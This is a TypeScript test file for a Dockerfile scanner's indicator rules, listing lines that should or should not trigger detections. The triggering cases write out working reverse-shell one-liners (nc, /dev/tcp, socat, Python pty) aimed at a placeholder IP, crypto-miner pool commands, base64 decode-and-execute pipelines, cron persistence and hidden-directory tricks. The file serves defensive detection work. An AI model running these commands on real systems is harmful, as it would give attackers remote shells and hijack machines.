import { testRules } from '../../../test/support/rule-cases.ts';
import { indicatorRules } from './indicators.ts';

testRules(indicatorRules, {
  miner: {
    fires: [
      'CMD ["xmrig","-o","stratum+tcp://pool.supportxmr.com:3333"]',
      'RUN wget https://example.org/xmrig.tar.gz',
      'RUN ./x -o stratum+tcp://pool.example:3333',
      'RUN curl -O https://pool.supportxmr.com/x',
      'RUN sh -c "git clone https://example.org/ethminer"',
    ],
    quiet: ['RUN echo xmrig is bad > /NOTES', 'RUN apt-get install -y determined'],
  },
  'reverse-shell': {
    fires: [
      'RUN mkfifo f; cat f | sh -i 2>&1 | nc 192.0.2.1 4 > f',
      'CMD ["/bin/bash","-c","bash -i >& /dev/tcp/192.0.2.1/1 0>&1"]',
      'RUN nc -e /bin/sh 192.0.2.1 4444',
      'RUN N=nc; $N -e /bin/sh 192.0.2.1 4444',
      'RUN mkfifo f; nc 192.0.2.1 4 < f | sh > f',
      'RUN echo "bash -i >& /dev/tcp/192.0.2.1/1 0>&1" >> /root/.bashrc',
      'RUN sh -i 5<> /dev/tcp/192.0.2.1/1',
      'RUN socat TCP:192.0.2.1:1 EXEC:sh',
      `RUN python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.1",1));os.dup2(s.fileno(),0);pty.spawn("sh")'`,
    ],
    quiet: [
      'RUN sh x.sh | nc -z localhost 80',
      'RUN echo "/dev/tcp is a file of bash"',
      'RUN nc -z localhost 80',
      'RUN curl https://example.org/dev/tcp/',
    ],
  },
  'decoded-and-run': {
    fires: [
      'RUN eval "$(echo aGk= | base64 --decode)"',
      'RUN bash -c "$(base64 -d x)"',
      'RUN echo x | openssl base64 -d | sh',
      'RUN echo aGk= | base64 -d > /x; sh /x',
      'RUN D=base64; echo aGk= | $D -d | sh',
      `RUN python3 -c "import base64; exec(base64.b64decode('aGk='))"`,
      'ENV D=base64\nRUN echo aGk= | $D -d | sh',
    ],
    quiet: ['RUN echo aGk= | base64 -d > /etc/x', 'RUN base64 -d x | tar -x', 'RUN echo "base64 -d | sh"'],
  },
  'hidden-place': {
    fires: ['RUN mkdir -p /tmp/.X11-unix/...', 'RUN cp x /dev/shm/x', 'RUN mkdir /var/tmp/.ssh/x'],
    quiet: ['RUN mkdir -p /tmp/build', 'RUN cp ../x .', 'RUN mkdir /tmp/.X11-unix'],
  },
  'schedule-by-run': {
    fires: ['RUN echo "* * * * * root /x" > /etc/cron.d/x', 'RUN crontab /x.cron'],
    quiet: ['RUN crontab -l', 'RUN echo crontab'],
  },
});
